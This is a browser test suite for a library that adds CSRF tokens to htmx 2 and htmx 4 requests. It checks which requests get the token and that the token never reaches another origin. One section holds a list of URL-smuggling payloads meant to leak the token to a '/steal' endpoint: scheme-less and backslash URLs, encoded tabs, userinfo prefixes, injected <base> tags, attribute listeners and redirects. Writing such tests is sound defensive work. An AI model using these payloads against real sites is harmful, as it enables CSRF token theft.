/** `riposte/htmx` in pages of htmx 2 and htmx 4: where the token goes, and where it does not, whatever attributes say. */
import type { Page } from 'puppeteer-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'

import { bundle } from '../../../scripts/bundle.ts'
import { startBrowser, type TestBrowser } from '../../browser/harness.ts'
import { html, redirect, reply, type Site, startSite } from '../../browser/site.ts'
import { becomes, filesOf, installClients, pause } from '../stage.ts'

const secret = 'cookietoken'
const header = 'x-csrftoken'

let chromium: TestBrowser
let bridge: string
let site: Site
let page: Page
beforeAll(async () => {
  installClients()
  chromium = await startBrowser()
  bridge = await bundle(`import { htmxTokens } from './src/client/htmx.ts'\nhtmxTokens()`, 'iife')
  site = await startSite()
})
afterAll(async () => {
  await chromium.close()
  await site.close()
})
beforeEach(async () => {
  site.reset()
  page = await (await chromium.browser.createBrowserContext()).newPage()
})
afterEach(() => page.browserContext().close())

interface Setup {
  head?: string
  body?: string
  cookie?: string | null
  headers?: Record<string, string>
}

/** A page with the library, the bridge and nothing else that sends a token. */
async function open(library: string, markup: string, setup: Setup = {}): Promise<void> {
  const { head = '', body = '', cookie = secret, headers } = setup
  site.on('GET /htmx.js', reply('text/javascript', filesOf([library])[0] ?? ''))
  site.on('GET /bridge.js', reply('text/javascript', bridge))
  const scripts = `<script src="${site.home}/htmx.js"></script><script src="${site.home}/bridge.js"></script>`
  const content = `<!doctype html><html><head><title>x</title>${head}${scripts}</head><body ${body}>${markup}<p id="out"></p></body></html>`
  const cookies = cookie === null ? {} : { 'Set-Cookie': `csrftoken=${cookie}; Path=/` }
  site.on('GET /page', html(content, 200, { ...cookies, ...headers }))
  await page.goto(`${site.home}/page`)
}

const click = (id: string): Promise<void> =>
  page.$eval(`#${id}`, (button) => (button as HTMLElement).click())

/** What of the token a request carried, when it has arrived; `undefined` when none did. */
async function arrived(path: string): Promise<{ method: string; token: unknown } | undefined> {
  const found = () => site.arrivals.find((one) => one.path === path && one.method !== 'OPTIONS')
  await becomes(() => found() !== undefined)
  const arrival = found()
  return arrival && { method: arrival.method, token: arrival.headers[header] }
}

/** Whether the token got to the other origin, in whatever way. */
async function isStolen(within = 600): Promise<boolean> {
  await pause(within)
  return site.arrivals.some(
    (one) => one.origin === site.elsewhere && JSON.stringify(one).includes(secret),
  )
}

const libraries = [
  {
    name: 'htmx 2',
    library: 'htmx2/dist/htmx.min.js',
    // By itself it sends nothing to other origins; a site that has told it to must be safe all the same.
    wide: `<meta name="htmx-config" content='{"selfRequestsOnly":false}'>`,
    configured: 'hx-on:htmx:config-request',
    path: 'event.detail.path',
    inherited: 'hx-headers',
    // Stays one of our paths, whatever it looks like.
    harmless: ['by a path that becomes a host'],
  },
  {
    name: 'htmx 4',
    library: 'htmx4/dist/htmx.min.js',
    wide: `<meta name="htmx-config" content='mode:"cors"'>`,
    configured: 'hx-on:htmx:config:request',
    path: 'event.detail.ctx.request.action',
    inherited: 'hx-headers:inherited',
    // `fetch` takes no address with a name in it; the other is changed after the token was given, which `mode` stops.
    harmless: ['with our name in front', 'by a path that becomes a host'],
  },
]

describe.each(libraries)('riposte/htmx with $name', ({ library, wide, harmless, ...names }) => {
  it('gives the token to what changes something, and not to what reads', async () => {
    const verbs = ['get', 'post', 'put', 'patch', 'delete']
    const buttons = verbs.map((verb) => `<button id="${verb}" hx-${verb}="/${verb}">x</button>`)
    for (const verb of verbs) site.on(`${verb.toUpperCase()} /${verb}`, html('ok'))
    await open(library, buttons.join(''))
    for (const verb of verbs) {
      await click(verb)
      const token = verb === 'get' ? undefined : secret
      expect(await arrived(`/${verb}`)).toEqual({ method: verb.toUpperCase(), token })
    }
  })

  it('gives the token of now, not that of when the page was loaded', async () => {
    site.on('POST /save', html('ok'))
    await open(library, '<button id="save" hx-post="/save">x</button>')
    await page.evaluate(() => void (document.cookie = 'csrftoken=newer; path=/'))
    await click('save')
    expect(await arrived('/save')).toMatchObject({ token: 'newer' })
  })

  it('finds it in a form or a <meta> where there is no cookie for scripts', async () => {
    site.on('POST /save', html('ok'))
    const field = '<form><input type="hidden" name="csrfmiddlewaretoken" value="ofform"></form>'
    const button = '<button id="save" hx-post="/save">x</button>'
    await open(library, field + button, { cookie: null })
    await click('save')
    expect(await arrived('/save')).toMatchObject({ token: 'ofform' })
    site.reset()
    site.on('POST /save', html('ok'))
    const head = '<meta name="csrf-token" content="ofmeta">'
    await open(library, button, { cookie: null, head })
    await click('save')
    expect(await arrived('/save')).toMatchObject({ token: 'ofmeta' })
  })

  it('leaves alone what hx-headers says where it knows no token itself', async () => {
    site.on('POST /save', html('ok'))
    const body = `${names.inherited}='{"X-CSRFToken": "byhand"}'`
    await open(library, '<button id="save" hx-post="/save">x</button>', { cookie: null, body })
    await click('save')
    expect(await arrived('/save')).toMatchObject({ token: 'byhand' })
  })

  it('sends one token where hx-headers has an old one in another case', async () => {
    site.on('POST /save', html('ok'))
    const body = `${names.inherited}='{"x-csrftoken": "old"}'`
    await open(library, '<button id="save" hx-post="/save">x</button>', { body })
    await click('save')
    expect(await arrived('/save')).toMatchObject({ token: secret })
  })

  it('gives nothing to what stands in [data-rp-ignore]', async () => {
    site.on('POST /save', html('ok'))
    await open(library, '<div data-rp-ignore><button id="save" hx-post="/save">x</button></div>')
    await click('save')
    expect(await arrived('/save')).toEqual({ method: 'POST', token: undefined })
  })

  describe('keeps the token from another origin', () => {
    const tricks: Record<string, (host: string) => { button: string; setup?: Setup }> = {
      'named in the attribute': (host) => ({ button: `hx-post="http://${host}/steal"` }),
      'without a scheme': (host) => ({ button: `hx-post="//${host}/steal"` }),
      'with backslashes': (host) => ({ button: `hx-post="\\\\${host}/steal"` }),
      'behind a tab': (host) => ({ button: `hx-post="&#9;/&#10;/${host}/steal"` }),
      'with our name in front': (host) => ({ button: `hx-post="http://127.0.0.1@${host}/steal"` }),
      'by <base>': (host) => ({
        button: 'hx-post="steal"',
        setup: { head: `<base href="http://${host}/">` },
      }),
      'by <base>, from a path that looks like ours': (host) => ({
        button: 'hx-post="/steal"',
        setup: { head: `<base href="http://${host}/">` },
      }),
      'by a path that becomes a host': (host) => ({ button: `hx-delete="/.//${host}/steal"` }),
      'by a listener in an attribute': (host) => ({
        button: `hx-post="/save" ${names.configured}="${names.path}='http://${host}/steal'"`,
      }),
      'with a token that hx-headers sends everywhere': (host) => ({
        button: `hx-post="http://${host}/steal"`,
        setup: { body: `${names.inherited}='{"X-CSRFToken": "${secret}"}'` },
      }),
      'with the same in small letters': (host) => ({
        button: `hx-get="http://${host}/steal"`,
        setup: { body: `${names.inherited}='{"x-csrftoken": "${secret}"}'` },
      }),
    }
    it.each(Object.entries(tricks))('%s', async (name, trick) => {
      const { host } = new URL(site.elsewhere)
      for (const verb of ['GET', 'POST', 'DELETE']) site.on(`${verb} /steal`, html('thank you'))
      const { button, setup = {} } = trick(host)
      const head = (setup.head ?? '') + wide
      await open(library, `<button id="steal" ${button}>x</button>`, { ...setup, head })
      await click('steal')
      expect(await isStolen()).toBe(false)
      const leads = site.arrivals.some(({ origin }) => origin === site.elsewhere)
      expect(leads).toBe(!harmless.includes(name))
    })

    it('and the tricks do lead there: without the token, they arrive', async () => {
      const { host } = new URL(site.elsewhere)
      site.on('POST /steal', html('thank you'))
      await open(library, `<button id="steal" hx-post="//${host}/steal">x</button>`, { head: wide })
      await click('steal')
      expect(await arrived('/steal')).toEqual({ method: 'POST', token: undefined })
      expect(site.arrivals.at(-1)?.origin).toBe(site.elsewhere)
    })
  })
})

describe('riposte/htmx with htmx 4', () => {
  const [, { library, wide } = { library: '', wide: '' }] = libraries

  it('follows no redirect to another origin, even where htmx is told to', async () => {
    site.on('POST /leak', redirect(307, `${site.elsewhere}/steal`))
    site.on('POST /steal', html('thank you'))
    await open(library, '<button id="leak" hx-post="/leak">x</button>', { head: wide })
    await click('leak')
    expect(await arrived('/leak')).toMatchObject({ token: secret })
    expect(await isStolen()).toBe(false)
  })

  it('has the last word after hx-config and after a listener of before:request', async () => {
    const { host } = new URL(site.elsewhere)
    site.on('POST /steal', html('thank you'))
    const listener = `hx-on:htmx:before:request="event.detail.ctx.request.action='http://${host}/steal'"`
    const markup =
      `<button id="config" hx-post="/save" hx-config='action:"http://${host}/steal"'>x</button>` +
      `<button id="listener" hx-post="/save" ${listener}>x</button>`
    await open(library, markup, { head: wide })
    await click('config')
    await click('listener')
    expect(await isStolen()).toBe(false)
  })
})

describe('riposte/htmx with htmx 2', () => {
  const [{ library } = { library: '' }] = libraries

  it('cannot keep XMLHttpRequest from following a redirect; connect-src can', async () => {
    const leak = async (headers: Record<string, string>): Promise<boolean> => {
      site.reset()
      site.on('POST /leak', redirect(307, `${site.elsewhere}/steal`))
      site.on('POST /steal', html('thank you'))
      await open(library, '<button id="leak" hx-post="/leak">x</button>', { headers })
      await click('leak')
      expect(await arrived('/leak')).toMatchObject({ token: secret })
      return isStolen()
    }
    expect(await leak({})).toBe(true)
    expect(await leak({ 'Content-Security-Policy': "connect-src 'self'" })).toBe(false)
  })
})
